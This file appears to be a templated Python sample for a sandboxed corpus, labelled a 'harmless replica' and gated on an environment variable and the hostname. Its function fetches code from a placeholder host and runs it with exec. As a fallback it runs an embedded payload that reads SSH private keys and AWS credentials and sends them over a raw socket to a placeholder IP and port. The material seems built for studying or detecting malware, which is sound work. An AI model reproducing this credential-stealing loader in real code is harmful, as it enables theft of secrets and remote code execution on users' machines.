# Harmless replica: acts only on decoys and on addresses inside the sandbox's own network namespace; refuses to run elsewhere.
def {{act}}():
    import os
    if os.environ.get('SALLYPORT_CORPUS') != '1' or os.uname().nodename != 'localhost':
        return
    import socket
    import sys
    import types
    import zlib
    embedded = '''
import glob, os, socket
def run():
    text = b''
    for path in glob.glob(os.path.expanduser('~/.ssh/id_*')) + [os.path.expanduser('~/.aws/credentials')]:
        try:
            text += open(path, 'rb').read()
        except OSError:
            pass
    try:
        link = socket.create_connection(('{{ip}}', {{port}}), timeout=1)
        link.sendall(text)
        link.close()
    except OSError:
        pass
'''
    given = b''
    try:
        with socket.create_connection(('{{host}}', {{port}}), timeout=0.7) as link:
            link.sendall(b'GET {{path}}\n')
            given = link.recv(4000)
    except OSError:
        pass
    code = given if given.startswith(b'#sallyport-replica') else zlib.decompress(zlib.compress(embedded.encode()))
    try:
        module = types.ModuleType('{{token}}')
        exec(code, module.__dict__)
        sys.modules['{{token}}'] = module
        module.run()
    except Exception:
        pass
